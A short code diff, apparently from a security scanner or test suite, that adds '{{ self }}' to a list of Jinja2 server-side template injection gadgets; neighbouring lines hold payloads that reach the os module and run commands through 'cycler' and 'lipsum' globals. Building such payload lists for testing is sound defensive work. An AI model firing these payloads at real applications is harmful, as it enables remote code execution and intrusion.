@@ -15,6 +15,7 @@ GADGETS = [
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "{{ self.__init__.__globals__ }}",
     "{{ self._TemplateReference__context }}",
+    "{{ self }}",
     "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
     "{{ lipsum.__globals__['os'].system('id') }}",
     "{{ namespace.__init__.__globals__ }}",
